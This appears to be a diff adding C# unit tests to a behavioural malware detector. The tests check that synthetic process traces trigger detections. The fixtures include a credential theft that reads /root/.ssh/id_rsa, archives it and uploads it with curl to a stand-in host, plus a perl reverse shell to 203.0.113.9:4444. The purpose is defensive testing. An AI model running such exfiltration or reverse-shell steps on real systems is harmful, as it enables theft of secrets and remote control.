@@ -124,4 +124,55 @@ public sealed class ActivityTests
         var circle = string.Concat(Enumerable.Range(0, 300).Select(index => $"- {{kind: rename, process: 1, object: /a{index % 3}, other: /a{(index + 1) % 3}, result: 0}}\n- {{kind: fork, process: {index}, child: {(index + 1) % 7}}}\n- {{kind: exec, process: {index % 7}, object: /a{index % 3}, line: a, result: 0}}\n"));
         Assert.NotNull(Judge(Start + Curl + "- {kind: write, process: 2, object: /a0, result: 3}\n" + circle).Tree);
     }
+
+    [Fact]
+    public void Credentials_are_followed_through_files_pipes_and_children()
+    {
+        const string Flow = """
+            - {kind: fork, process: 1, child: 2}
+            - {kind: exec, process: 2, object: /usr/bin/python3, line: python3 a.py, result: 0}
+            - {kind: write, process: 2, object: /tmp/loot, result: 3}
+            - {kind: read, process: 2, object: /root/.ssh/id_rsa, result: 4}
+            - {kind: fork, process: 2, child: 3}
+            - {kind: exec, process: 3, object: /usr/bin/tar, line: tar czf /tmp/b.tgz /tmp/loot, result: 0}
+            - {kind: fork, process: 3, child: 4}
+            - {kind: write, process: 4, object: /tmp/b.tgz, result: 3}
+            - {kind: read, process: 4, object: "pipe:[9]", other: "0", result: 0}
+            - {kind: exec, process: 4, object: /usr/bin/gzip, line: gzip, result: 0}
+            - {kind: read, process: 3, object: /tmp/loot, result: 3}
+            - {kind: fork, process: 2, child: 5}
+            - {kind: exec, process: 5, object: /usr/bin/curl, line: curl -T /tmp/b.tgz https://c.example/, result: 0}
+            - {kind: read, process: 5, object: /tmp/b.tgz, result: 3}
+            - {kind: connect, process: 5, object: "c.example:443", result: 0}
+            - {kind: request, object: "https://c.example/", line: PUT}
+
+            """;
+        Assert.True(Says(Judge(Start + Flow), "behavior/sends-on-credentials"));
+        Assert.False(Says(Judge(Start + Flow.Replace("/root/.ssh/id_rsa", "/srv/data", StringComparison.Ordinal)), "behavior/sends-on-credentials"));
+    }
+
+    [Theory]
+    [InlineData("bash -i", "", true)]
+    [InlineData("sh", "- {kind: write, process: 2, object: 'socket:[7]', other: '1', result: 0}\n", true)]
+    [InlineData("sh run.sh", "", false)]
+    public void A_shell_that_takes_its_commands_from_another_machine_is_told(string line, string output, bool told)
+    {
+        var report = Judge(Start + """
+            - {kind: fork, process: 1, child: 2}
+            - {kind: exec, process: 2, object: /usr/bin/perl, line: perl a.pl, result: 0}
+            - {kind: connect, process: 2, object: "203.0.113.9:4444", line: "socket:[7]", result: 0}
+            - {kind: read, process: 2, object: "socket:[7]", other: "0", result: 0}
+
+            """ + output + "- {kind: exec, process: 2, object: /usr/bin/" + line.Split(' ')[0] + ", line: " + line + ", result: 0}\n");
+        Assert.Equal(told, Says(report, "behavior/opens-reverse-shell"));
+    }
+
+    [Fact]
+    public void What_was_written_and_is_not_there_at_the_end_was_deleted_where_the_end_is_known()
+    {
+        const string Written = "- {kind: fork, process: 1, child: 2}\n- {kind: exec, process: 2, object: /usr/bin/x, line: x, result: 0}\n- {kind: write, process: 2, object: /var/a.so, result: 3}\n";
+        Assert.False(Says(Judge(Start + Written), "behavior/deletes-what-it-downloaded"));
+        Assert.True(Says(Judge(Start + Written + "- {kind: change, object: /, other: '755'}\n"), "behavior/deletes-what-it-downloaded"));
+        Assert.False(Says(Judge(Start + Written + "- {kind: change, object: /var/a.so, other: '644', digest: aa}\n- {kind: change, object: /, other: '755'}\n"), "behavior/deletes-what-it-downloaded"));
+    }
 }
